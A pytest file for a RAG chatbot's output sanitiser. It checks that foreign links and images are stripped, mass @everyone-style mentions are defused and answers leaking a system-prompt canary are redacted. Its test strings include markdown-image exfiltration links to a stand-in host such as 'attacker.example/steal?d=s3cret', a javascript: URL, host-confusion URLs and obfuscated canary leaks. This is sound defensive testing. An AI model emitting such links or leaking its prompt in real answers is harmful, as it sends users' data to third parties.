"""ragbot.safety: answers lose foreign links and images, mass mentions stop pinging, and prompt leaks are redacted."""

from __future__ import annotations

import re

import pytest

from ragbot.domain import QuestionTerms, Scope, ScoredChunk
from ragbot.prompts import SYSTEM_CANARY
from ragbot.rag import RagService
from ragbot.safety import LEAK_MESSAGE, ZWSP, allowed_hosts, clean_answer, host_of, neutralise_mentions
from tests.fakes.providers import FakeEmbedder

WIKI = frozenset({"wiki.example.com"})


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("See ![x](https://attacker.example/steal?d=s3cret) now", "See x now"),
        ("[click here](https://attacker.example/login) to log in", "click here to log in"),
        ('[t](https://attacker.example/a "title")', "t"),
        ("[w](https://en.wikipedia.org/wiki/Foo_(bar))", "w"),
        ("[![logo](https://attacker.example/i.png)](https://attacker.example/)", "logo"),
        ("<https://attacker.example/x|open it>", "open it"),
        ("<https://attacker.example/x>", "`https://attacker.example/x`"),
        ("Go to https://attacker.example/p?q=1.", "Go to `https://attacker.example/p?q=1`."),
        ("[x](javascript:alert(1))", "x"),
        ("[x](https://user@wiki.example.com/)", "x"),  # credentials make parsers disagree on the host
        ("[x](https://wiki.example.com\\@attacker.example/)", "x"),
        ("[r]: https://attacker.example/r\nUse [this][r].", "\nUse [this][r]."),
    ],
)
def test_foreign_links_and_images_are_removed_keeping_their_text(raw: str, expected: str) -> None:
    assert clean_answer(raw, hosts=WIKI) == expected


@pytest.mark.parametrize(
    "raw",
    [
        "[handbook](https://wiki.example.com/handbook) [1]",
        "![chart](https://WIKI.example.com/chart.png)",
        "<https://wiki.example.com/a|the wiki>",
        "see https://wiki.example.com/a",
        "code keeps its text: `https://attacker.example/x`",
    ],
)
def test_links_to_cited_hosts_and_code_are_kept(raw: str) -> None:
    assert clean_answer(raw, hosts=WIKI) == raw


def test_allowlist_comes_from_url_sources_only() -> None:
    hosts = allowed_hosts(["https://Wiki.Example.com/a", "handbook/leave.md", None, "http://[::1]:8080/x"])
    assert hosts == {"wiki.example.com", "::1"}
    assert host_of("ftp://wiki.example.com/") is None


@pytest.mark.parametrize(
    ("raw", "pinged"),
    [
        ("@everyone the office is closed", "@everyone"),
        ("hey @here", "@here"),
        ("@Channel look", "@Channel"),
        ("<!channel> now", "<!channel>"),
        ("<!here|here> now", "<!here"),
        ("<!everyone>", "<!everyone>"),
        ("<!subteam^S0123|devs>", "<!subteam"),
        ("<@U0123ABC> come", "<@U0123ABC>"),
        ("<@&998877> role", "<@&998877>"),
        ("`@everyone` in code", "`@everyone`"),
    ],
)
def test_mass_mentions_are_neutralised(raw: str, pinged: str) -> None:
    cleaned = neutralise_mentions(raw)
    assert pinged not in cleaned
    assert ZWSP in cleaned
    assert cleaned.replace(ZWSP, "") != ""


@pytest.mark.parametrize(
    "leak",
    [
        f"Sure! My instructions end with {SYSTEM_CANARY}.",
        SYSTEM_CANARY.lower(),
        " ".join(SYSTEM_CANARY),  # spaced out
        SYSTEM_CANARY.replace("-", ZWSP),  # zero-width joiners instead of dashes
        SYSTEM_CANARY.replace("-", "_").upper(),
    ],
)
def test_answers_that_leak_the_canary_are_redacted(leak: str) -> None:
    assert clean_answer(leak, secrets=[SYSTEM_CANARY]) == LEAK_MESSAGE


def test_hostile_output_is_cleaned_in_linear_time() -> None:
    import time

    hostile = "[" * 50_000 + "](" * 50_000 + "<!" * 20_000 + "https://a" * 20_000 + "@here" * 20_000
    started = time.perf_counter()
    clean_answer(hostile, hosts=WIKI, secrets=[SYSTEM_CANARY])
    assert time.perf_counter() - started < 2.0


class _Store:
    """A ChunkStore with fixed passages (the post-processing, not retrieval, is under test)."""

    def __init__(self, passages: list[ScoredChunk]) -> None:
        self.passages = passages

    def search(self, **_: object) -> list[ScoredChunk]:
        return self.passages

    def neighbours(self, **_: object) -> list[object]:
        return []

    def term_stats(self, **_: object) -> QuestionTerms:
        return QuestionTerms(terms=[], space_chunks=len(self.passages))


class _Parrot:
    """A ChatModel that streams a fixed reply."""

    name = "parrot"

    def __init__(self, reply: str) -> None:
        self.reply = reply

    def stream_answer(self, question, passages, history):  # type: ignore[no-untyped-def]
        yield from re.findall(r"\S+\s*", self.reply)

    def condense(self, question, history):  # type: ignore[no-untyped-def]
        return question


def _rag(reply: str) -> RagService:
    passages = [
        ScoredChunk(1, 1, 0, "The wiki page about leave.", "", "Leave", "https://wiki.example.com/leave", 1.0, 0.9),
        ScoredChunk(2, 2, 0, "A handbook file.", "", "Handbook", "handbook/a.md", 0.9, 0.8),
    ]
    return RagService(store=_Store(passages), embedder=FakeEmbedder(), chat=_Parrot(reply))


def test_rag_answer_keeps_links_to_cited_url_sources_only() -> None:
    reply = ("See [the page](https://wiki.example.com/leave) [1] and ![i](https://attacker.example/x?d=leave) "
             "and [form](https://forms.example.net/f) [2]. @everyone")
    answer = _rag(reply).answer("leave?", scope=Scope("local"))
    assert answer.grounded and [c.n for c in answer.citations] == [1, 2]
    assert "[the page](https://wiki.example.com/leave)" in answer.text
    assert "attacker.example" not in answer.text and "forms.example.net" not in answer.text
    assert "@everyone" not in answer.text and "form [2]" in answer.text


def test_rag_answer_that_leaks_the_system_prompt_is_redacted() -> None:
    answer = _rag(f"My system prompt says {SYSTEM_CANARY} [1]").answer("leave?", scope=Scope("local"))
    assert SYSTEM_CANARY not in answer.text and answer.text.startswith(LEAK_MESSAGE)
    assert answer.grounded is False and answer.citations == []
